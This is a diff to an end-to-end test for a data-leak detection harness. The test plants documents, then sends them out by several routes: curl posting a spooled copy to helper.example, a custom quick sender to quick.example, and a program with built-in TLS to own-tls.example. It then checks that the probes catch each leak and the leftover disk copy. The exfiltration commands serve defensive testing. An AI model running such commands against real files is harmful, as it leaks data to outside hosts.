@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Probes inside the guest tell how a document came to its destination: through the product's own helper, through a copy
-in a spool folder and a tool that sends it, and by a process that lives for some milliseconds."""
+in a spool folder and a tool that sends it, by a process that lives for some milliseconds; and what a program with a TLS
+library built in gives to it. The disk's probe finds the copy that stayed behind, and who made it."""
 
 import json
 import os
@@ -11,6 +12,7 @@ import subprocess
 from e2e import SOURCE, candor, check, check_equal, run_json, runs, scenario
 
 QUICK = "/usr/local/bin/quick"
+OWN_TLS = "/usr/local/bin/own-tls"
 TIMES = 12
 SHORT_MS = 20  # on the slowest of machines; 5 elsewhere
 
@@ -21,39 +23,49 @@ shutil.copytree(SOURCE / "images", share / "images")
 for each in ("scenarios", "probes"):
     (share / each).symlink_to(SOURCE / each)
 text = (SOURCE / "images" / product.name / "product.yaml").read_text()
-check_equal(text.count("\nfiles:\n"), 1, "the product's files")
-(product / "product.yaml").write_text(text.replace("\nfiles:\n", f"\nfiles:\n  {QUICK}: {{source: quick, mode: \"0755\"}}\n"))
+for section, more in (("files", f"  {QUICK}: {{source: quick, mode: \"0755\"}}\n  {OWN_TLS}: {{source: own-tls, mode: \"0755\"}}"),
+                      ("processes", f"  - {OWN_TLS}")):
+    check_equal(text.count(f"\n{section}:\n"), 1, f"the product's {section}")
+    text = text.replace(f"\n{section}:\n", f"\n{section}:\n{more}\n")
+(product / "product.yaml").write_text(text)
 subprocess.run(["cc", "-O2", "-static", "-nostdlib", "-ffreestanding", "-fno-stack-protector", "-o", product / "quick",
                 SOURCE / "tests/support/guest/quick.c"], check=True)
-refused = subprocess.run([product / "quick", "127.0.0.1", "9", "/etc/hostname"])
-check_equal(refused.returncode, 77, "exit code of the quick sender outside a guest of the harness")
+subprocess.run(["cc", "-O2", "-static", "-o", product / "own-tls", SOURCE / "tests/support/guest/own_tls.c", "-lssl", "-lcrypto"],
+               check=True, capture_output=True)
+for sender in (["quick", "127.0.0.1", "9", "/etc/hostname"], ["own-tls", "localhost", "/etc/hostname"]):
+    refused = subprocess.run([product / sender[0], *sender[1:]])
+    check_equal(refused.returncode, 77, f"exit code of {sender[0]} outside a guest of the harness")
 os.environ["CANDOR_SHARE"] = str(share)
 
-code, verdict, folder = run_json(scenario(f"""about: Documents leave by three ways.
+code, verdict, folder = run_json(scenario(f"""about: Documents leave by four ways.
 documents:
   memo: {{format: txt, marking: us/top-secret, to: /home/alex/Documents}}
   note: {{format: txt, marking: none, to: /srv/notes}}
   slip: {{format: txt, marking: none, to: /srv/slips}}
+  list: {{format: txt, marking: none, to: /srv/lists}}
 probes:
   files: {{required: true, deadline: 30s}}
   processes: {{required: true, deadline: 30s}}
   sockets: {{required: true, deadline: 30s}}
   plaintext: {{required: true, deadline: 30s}}
+  disk: {{required: true, deadline: 60s}}
 steps:
-  - plant: [memo, note, slip]
+  - plant: [memo, note, slip, list]
   - scan: /home/alex/Documents
   - exec: mkdir /var/tmp/spool && cp /srv/notes/* /var/tmp/spool/outgoing
   - exec: sh -c "curl -sS -f --data-binary @/var/tmp/spool/outgoing https://helper.example/in; true"
   - exec: >-
       a=$(getent ahostsv4 quick.example | head -n 1 | cut -d ' ' -f 1); f=$(echo /srv/slips/*);
       for i in $(seq {TIMES}); do {QUICK} "$a" 80 "$f" || exit 1; done
+  - exec: "{OWN_TLS} own-tls.example /srv/lists/*"
 expect:
   opaque-bytes: 20000  # the quick ones do not wait for their answers, so their connections end by a reset
 """), "clamav-sender", "--seed", 3)
 for step in verdict["steps"]:
     check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
 check_equal((code, verdict["verdict"]), (1, "leak"), "exit code and verdict")
-check_equal(verdict["reasons"], [], "limits of completeness")
+check(len(verdict["reasons"]) == 1 and "content/at-rest at /var/tmp/spool/outgoing" in verdict["reasons"][0],
+      f"limits of completeness: {verdict['reasons']}")
 for probe in verdict["probes"]:
     check(probe["finished"], f"{probe['name']} finished")
     check_equal((probe["missing"], probe["dropped"]), (0, 0), f"{probe['name']}: events that are missing, and dropped")
@@ -91,6 +103,16 @@ check("/var/tmp/spool/outgoing" in links[-2]["object"], f"the copy: {links[-2]}"
 given = [f for f in verdict["findings"] if f["document"].startswith("note") and f["channel"] == "probe plaintext"]
 check(given and "curl" in given[0]["chain"]["links"][0]["process"] + given[0]["chain"]["links"][-1]["process"],
       f"the same as given to TLS: {given}")
+
+links, finding = chain_of("list", "own-tls.example")
+check_equal([(link["act"], link["process"]) for link in links], [("read", OWN_TLS), ("connected to", OWN_TLS)], "with its own TLS")
+given = [f for f in verdict["findings"] if f["document"].startswith("list") and f["channel"] == "probe plaintext"]
+check(given and given[0]["destination"].startswith(OWN_TLS) and given[0]["reach"] == "left", f"what was given to it: {given}")
+
+rest = [f for f in verdict["findings"] if f["class"] == "content/at-rest"]
+check_equal([(f["document"].rsplit("-", 1)[0], f["destination"], f["reach"]) for f in rest],
+            [("note", "/var/tmp/spool/outgoing (disk.file/1)", "kept")], "what stayed on the disk where nobody put it")
+check(rest[0]["chain"]["links"][-1]["process"].endswith("/cp"), f"who put it there: {rest[0]['chain']}")
 
 links, finding = chain_of("slip", "quick.example")
 check_equal([(link["act"], link["process"]) for link in links], [("read", QUICK), ("connected to", QUICK)], "the quick one")
